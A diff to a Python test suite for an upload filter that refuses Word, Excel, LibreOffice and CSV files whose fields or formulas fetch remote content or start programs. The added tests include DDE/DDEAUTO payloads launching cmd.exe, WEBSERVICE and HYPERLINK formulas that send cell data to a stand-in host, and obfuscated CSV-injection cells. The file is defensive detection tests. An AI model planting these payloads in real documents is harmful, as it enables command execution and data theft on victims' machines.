@@ -13,7 +13,17 @@ from hypothesis import strategies as st
 from models.attachments import FileKind
 from tests.web.test_attachments import _MAIN, DOCX, ODT, PDF, office, packed
 from web.request.file_kinds import kind_of
-from web.request.unwanted import DAMAGED, EMBEDDED, FROM_ELSEWHERE, LOCKED, MACROS, ON_OPENING, TOO_LARGE, UnwantedFile
+from web.request.unwanted import (
+    DAMAGED,
+    EMBEDDED,
+    FROM_ELSEWHERE,
+    LOCKED,
+    MACROS,
+    ON_OPENING,
+    REACHES_OUT,
+    TOO_LARGE,
+    UnwantedFile,
+)
 
 TEXT = "application/vnd.oasis.opendocument.text"
 FILES = Path(__file__).parent / "files"
@@ -58,6 +68,32 @@ def typed(name: str, content_type: str, by: str = "Override PartName") -> bytes:
     return packed(**{"[Content_Types].xml": f"<Types>{types}</Types>", **parts})
 
 
+def word(body: str) -> bytes:
+    """A document of Word with this text."""
+    types = f'<Types><Override PartName="/a.xml" ContentType="{_MAIN}"/></Types>'
+    return packed(**{"[Content_Types].xml": types, "a.xml": f"<w>{body}</w>"})
+
+
+def field(*code: str) -> str:
+    """A field of Word whose code stands in these pieces; another field among them is a piece."""
+    pieces = "".join(one if one.startswith("<") else f"<r><instrText>{one}</instrText></r>" for one in code)
+    char = '<r><fldChar fldCharType="{}"/></r>'
+    return f"{char.format('begin')}{pieces}{char.format('separate')}<t>x</t>{char.format('end')}"
+
+
+def sheet(cell: str, name: str = "worksheet") -> bytes:
+    """A spreadsheet with a part of this type."""
+    main = _MAIN.replace("wordprocessingml.document", "spreadsheetml.sheet")
+    kind = f"application/vnd.openxmlformats-officedocument.spreadsheetml.{name}+xml"
+    named = f'<Override PartName="/b.xml" ContentType="{main}"/><Override PartName="/s.xml" ContentType="{kind}"/>'
+    return packed(**{"[Content_Types].xml": f"<Types>{named}</Types>", "b.xml": "<x/>", "s.xml": f"<s>{cell}</s>"})
+
+
+def calc(attribute: str) -> bytes:
+    """A spreadsheet of LibreOffice with a cell that has this attribute."""
+    return packed(mimetype=TEXT.replace("text", "spreadsheet"), content_dot_xml=f"<a><table-cell {attribute}/></a>")
+
+
 def object_stream(objects: bytes, *, about: bytes = b"", packed_as: bytes = b"/FlateDecode", first: int = 4) -> bytes:
     """A PDF file with one object, number 9, in an object stream."""
     body = zlib.compress(b"9 0 ".ljust(first) + objects)
@@ -92,6 +128,33 @@ def test_what_programs_and_scanners_make_is_taken(content: bytes, suffix: str, w
     found = kind(content, suffix)
     assert found is not None
     assert found.words == words
+
+
+TABLE = (
+    "No;What;Change\n1;'- none';-5\n2;+62 (812) 555-01;- boats (three), + crew\n3;=====;@ sea\n'=A1;'-x(1)\n4;-;-1.5e\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("content", "suffix"),
+    [
+        (word(field(" PAGE ")), ".docx"),
+        (word(field(" TOC \\o ", field("PAGEREF _x"), field(' HYPERLINK "https://example.org/" '))), ".docx"),
+        (word(field("IF ", field("PAGE"), ' = 1 "LINK" "INCLUDETEXT"')), ".docx"),
+        (word("<t>DDEAUTO and INCLUDETEXT are words</t>" + '<fldSimple instr=" DATE "/>'), ".docx"),
+        (
+            sheet("<c><f>SUM(A1:B2)/IMAGEX(3)</f></c><c><f>HYPERLINK(&quot;https://example.org/&quot;,A1)</f></c>"),
+            ".xlsx",
+        ),
+        (sheet("<c><v>=WEBSERVICE(1)</v></c><f>SUM(Table1[[#All],[a.b]])+Sheet2!A1+IF(1|2,3)</f>"), ".xlsx"),
+        (calc('formula="of:=SUM([.A1:.B2])"'), ".ods"),
+        (TABLE.encode(), ".csv"),
+        (TABLE.replace("\n", "\r\n").encode("utf-16"), ".csv"),
+        (b"=HYPERLINK(1)", ".txt"),
+    ],
+)
+def test_formulas_and_fields_that_reach_nothing_are_taken(content: bytes, suffix: str) -> None:
+    assert kind(content, suffix) is not None
 
 
 def test_an_open_document_as_programs_write_it_is_taken() -> None:
@@ -281,6 +344,74 @@ def test_a_document_that_acts_fetches_or_cannot_be_looked_through_is_refused(
     content: bytes, suffix: str, sentence: str
 ) -> None:
     assert why(content, suffix) == sentence
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"),
+        field(" dde Excel x"),
+        field("D", "DE", "AUTO x"),
+        field("QUOTE x", field("LINK Excel.Sheet.8 a")),
+        field(field("QUOTE 68 68 69"), " c:\\\\x"),
+        field(" ", field("SET c x"), " x"),
+        field("IF 1 = 1 ", field('INCLUDEPICTURE "http://e.example/x.png"'), " x"),
+        field(r"INCLUDETEXT \\\\e.example\\x"),
+        field("DATABASE x"),
+        '<fldSimple instr="  DDEAUTO x y"/>',
+        "<r><instrText>DDE x</instrText></r>",
+        "<r><delInstrText>DDE x</delInstrText></r>",
+        '<r><fldChar fldCharType="begin"/></r><r><instrText>DDE x</instrText></r>',
+    ],
+)
+def test_a_field_of_word_that_fetches_or_starts_something_is_refused(body: str) -> None:
+    assert why(word(body), ".docx") == FROM_ELSEWHERE
+
+
+_REACHING = [
+    "WEBSERVICE(&quot;http://e.example/&quot;&amp;A1)",
+    "1+_xlfn.WEBSERVICE(A1)",
+    "HYPERLINK(&quot;http://e.example/?&quot;&amp;A1,&quot;here&quot;)",
+    "HYPERLINK(A1)",
+    "cmd|'/c calc'!A0",
+    "RTD(&quot;x&quot;,,1)",
+    "_xlfn.IMAGE(&quot;http://e.example/&quot;)",
+    "'\\\\e.example\\[x.xlsx]S'!A1",
+    "&#87;EBSERVICE (A1)",
+]
+
+
+@pytest.mark.parametrize("formula", _REACHING)
+def test_a_formula_that_reaches_out_is_refused_in_every_kind_of_spreadsheet(formula: str) -> None:
+    assert why(sheet(f"<c><f>{formula}</f></c>"), ".xlsx") == REACHES_OUT
+    assert why(sheet(f"<formula1>{formula}</formula1>"), ".xlsx") == REACHES_OUT
+    assert why(sheet(f"<definedName>{formula}</definedName>", "sheet.main"), ".xlsx") == REACHES_OUT
+    assert why(calc(f'formula="of:={formula}"'), ".ods") == REACHES_OUT
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        *("=1+1", '"=1+1"', " =cmd|' /C calc'!A0", "\t=A1", "\r=A1", '"\n=A1"', "\uff1dA1", "+HYPERLINK(A1)"),
+        *("-2+3+cmd|' /C calc'!A0", "@SUM(1+9)", '"+1&""x""&WEBSERVICE(A1)"', "-SUM(A1)", "\u00a0=A1"),
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_table_with_a_cell_that_is_reckoned_out_is_refused(cell: str, encoding: str) -> None:
+    for before in ("", "a,b\n1,", "a;b\n1;", "a\tb\n1\t"):
+        assert why(f"{before}{cell}\n".encode(encoding), ".csv") == REACHES_OUT
+
+
+@pytest.mark.parametrize(
+    "piece", ["-", ",-a", "|", ",", " ", "a(", '"', "\t", "=-", "HYPERLINK(", "[a.xlsx]", "http://"]
+)
+def test_the_work_for_a_table_or_a_formula_grows_with_its_length_alone(piece: str) -> None:
+    """As in tests/security/test_costs.py: where the work grows by the square, the suite's limit ends it."""
+    for end in ("", ",-x"):
+        with contextlib.suppress(UnwantedFile):
+            kind((piece * (300_000 // len(piece)) + end).encode(), ".csv")
+    with contextlib.suppress(UnwantedFile):
+        kind(sheet(f"<f>{piece.replace('&', '') * (30_000 // len(piece))}</f>"), ".xlsx")
 
 
 @pytest.mark.parametrize("whole", [DOCX, ODT], ids=["docx", "odt"])
